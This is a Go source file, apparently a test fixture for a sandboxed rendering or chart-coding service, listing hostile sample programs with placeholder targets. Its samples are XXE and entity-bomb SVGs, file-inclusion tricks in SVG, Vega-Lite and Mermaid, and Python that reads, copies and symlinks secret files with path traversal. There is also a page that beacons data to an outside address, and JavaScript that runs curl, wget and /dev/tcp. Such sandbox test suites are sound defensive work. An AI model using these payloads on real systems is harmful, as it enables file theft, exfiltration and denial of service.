package hostile

// drawingPrograms are documents that a renderer reads, and programs that go
// through one of our drivers.
func drawingPrograms() []Program {
	return []Program{
		{Name: "SVG tells of a file by an entity", Language: "svg", Text: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file://SECRET"><!ENTITY % p SYSTEM "ADDRESS">%p;]>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text>&x;</text></svg>`},
		{Name: "SVG is a bomb of entities", Language: "svg", Text: `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text>&h;</text></svg>`},
		{Name: "SVG is a bomb of uses", Language: "svg", Text: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"><defs><g id="a"><rect width="1" height="1"/></g>
<g id="b"><use x:href="#a"/><use x:href="#a"/><use x:href="#a"/><use x:href="#a"/><use x:href="#a"/><use x:href="#a"/><use x:href="#a"/><use x:href="#a"/></g>
<g id="c"><use x:href="#b"/><use x:href="#b"/><use x:href="#b"/><use x:href="#b"/><use x:href="#b"/><use x:href="#b"/><use x:href="#b"/><use x:href="#b"/></g>
<g id="d"><use x:href="#c"/><use x:href="#c"/><use x:href="#c"/><use x:href="#c"/><use x:href="#c"/><use x:href="#c"/><use x:href="#c"/><use x:href="#c"/></g>
<g id="e"><use x:href="#d"/><use x:href="#d"/><use x:href="#d"/><use x:href="#d"/><use x:href="#d"/><use x:href="#d"/><use x:href="#d"/><use x:href="#d"/></g>
<g id="f"><use x:href="#e"/><use x:href="#e"/><use x:href="#e"/><use x:href="#e"/><use x:href="#e"/><use x:href="#e"/><use x:href="#e"/><use x:href="#e"/></g>
<g id="g"><use x:href="#f"/><use x:href="#f"/><use x:href="#f"/><use x:href="#f"/><use x:href="#f"/><use x:href="#f"/><use x:href="#f"/><use x:href="#f"/></g>
<g id="h"><use x:href="#g"/><use x:href="#g"/><use x:href="#g"/><use x:href="#g"/><use x:href="#g"/><use x:href="#g"/><use x:href="#g"/><use x:href="#g"/></g></defs><use x:href="#h"/></svg>`},
		{Name: "SVG shows files and addresses", Language: "svg", Text: `<?xml-stylesheet type="text/css" href="file://SECRET"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" xmlns:i="http://www.w3.org/2001/XInclude" viewBox="0 0 99 99"><style>@import url("ADDRESS"); @font-face { font-family: f; src: url("file://SECRET"); }</style>
<image x:href="file://SECRET" width="9" height="9"/><image href="SECRET" width="9" height="9"/><image href="ADDRESS" width="9" height="9"/><use href="file://SECRET#x"/><filter id="f"><feImage href="ADDRESS"/></filter><rect filter="url(#f)" fill="url(ADDRESS#x)" width="9" height="9"/>
<text font-family="f"><i:include href="file://SECRET" parse="text"/></text></svg>`},
		{Name: "Vega-Lite loads a file", Language: "vegalite", Text: `{"data": {"url": "SECRET", "format": {"type": "csv"}}, "mark": "text", "encoding": {"text": {"field": "a"}}}`},
		{Name: "Vega-Lite loads an address", Language: "vegalite", Text: `{"data": {"url": "ADDRESS", "format": {"type": "csv"}}, "mark": "text", "encoding": {"text": {"field": "a"}}}`},
		{Name: "Vega-Lite looks values up elsewhere", Language: "vegalite", Text: `{"data": {"values": [{"b": 2}]}, "transform": [{"lookup": "b", "from": {"data": {"url": "ADDRESS", "format": {"type": "csv"}}, "key": "b", "fields": ["a"]}}], "layer": [
  {"mark": "text", "encoding": {"text": {"field": "a"}}}, {"data": {"url": "file://SECRET", "format": {"type": "csv"}}, "mark": "text", "encoding": {"text": {"field": "a"}}}]}`},
		{Name: "Vega-Lite shows an image", Language: "vegalite", Text: `{"data": {"values": [{"u": "ADDRESS"}, {"u": "file://SECRET"}, {"u": "SECRET"}]}, "mark": {"type": "image", "width": 9, "height": 9}, "encoding": {"url": {"field": "u"}, "x": {"field": "u"}}}`},
		{Name: "Vega loads data in a mark", Language: "vegalite", Text: `{"$schema": "https://vega.github.io/schema/vega/v5.json", "width": 99, "height": 99, "data": [{"name": "t", "url": "ADDRESS", "format": {"type": "csv"}}], "marks": [{"type": "group", "data": [{"name": "d", "url": "SECRET", "format": {"type": "csv"}}], "marks": [{"type": "text", "from": {"data": "t"}, "encode": {"enter": {"text": {"field": "a"}}}}, {"type": "image", "encode": {"enter": {"url": {"value": "ADDRESS"}}}}]}]}`},
		{Name: "Python loads, sends and starts a shell", Language: "python", Text: `import os, shutil, subprocess, urllib.request
tries = [lambda: open("SECRET").read(), lambda: urllib.request.urlopen("ADDRESS", timeout=3).read(), lambda: urllib.request.urlopen("file://SECRET").read(),
         lambda: subprocess.run("cat SECRET; cp SECRET OUTSIDE", shell=True, capture_output=True).stdout, lambda: shutil.copy("SECRET", "leak.svg"), lambda: open("OUTSIDE", "w").write("x")]
import pandas as pd
tries += [lambda: pd.read_csv("ADDRESS"), lambda: pd.read_csv("SECRET"), lambda: pd.read_html("ADDRESS")]
for t in tries:
    try: print(t())
    except Exception as e: print(type(e))
raise SystemExit(1)
`},
		{Name: "Python gives files of the host for its pictures", Language: "python", Text: `import json, os
os.symlink("SECRET", "leak.svg"); os.symlink("SECRET", "leak.png")
os.makedirs(".viscoder", exist_ok=True)
with open(".viscoder/report.json", "w") as f:
    json.dump({"pictures": [{"file": "SECRET"}, {"file": "../../../../../../../../SECRET"}, {"file": "leak.svg"}, {"file": "/proc/self/root/SECRET"}]}, f)
os._exit(0)
`},
		{Name: "a page asks for addresses", Language: "html", Text: `<!doctype html><h1>x</h1><img src="ADDRESS/img"><link rel="stylesheet" href="ADDRESS/css"><iframe src="ADDRESS/frame"></iframe><script src="ADDRESS/js"></script><script>
fetch("ADDRESS/fetch").then(r => r.text()).then(t => console.error(t), () => {});
navigator.sendBeacon("ADDRESS/beacon", "x"); new WebSocket("ADDRESS/ws".replace("http", "ws")); new EventSource("ADDRESS/events"); window.open("ADDRESS/window");
new Worker(URL.createObjectURL(new Blob(["fetch('ADDRESS/worker').then(r => r.text()).then(t => postMessage(t))"]))).onmessage = e => console.error(e.data);
</script><form id="f" action="ADDRESS/form" method="post"></form><script>document.getElementById("f").submit(); setTimeout(() => { location = "ADDRESS/location"; }, 20);</script>`},
		{Name: "a diagram asks for addresses", Language: "mermaid", Text: "flowchart TD\n  A@{ img: \"ADDRESS/picture\", label: \"A\", w: 60, h: 60 }\n  B[\"<img src='ADDRESS/label'/>\"] --> A\n  style A fill:url(ADDRESS/style)\n  click A href \"ADDRESS/click\"\n"},
		{Name: "R and node send", Language: "javascript", Text: "const { execSync } = require('child_process');\nfetch('ADDRESS/fetch').then(r => r.text()).then(console.log, e => console.log(String(e)));\nfor (const c of [\"Rscript -e 'print(readLines(url(\\\"ADDRESS/r\\\")))'\", 'curl -s ADDRESS/curl', 'wget -qO- ADDRESS/wget', 'python3 -c \"import urllib.request as u; print(u.urlopen(\\'ADDRESS/py\\').read())\"', 'exec 3<>/dev/tcp/127.0.0.1/22 && cat <&3']) try { console.log(execSync(c, { shell: '/bin/bash', timeout: 5000 }).toString()); } catch (held) { console.log(String(held)); }\n"},
	}
}
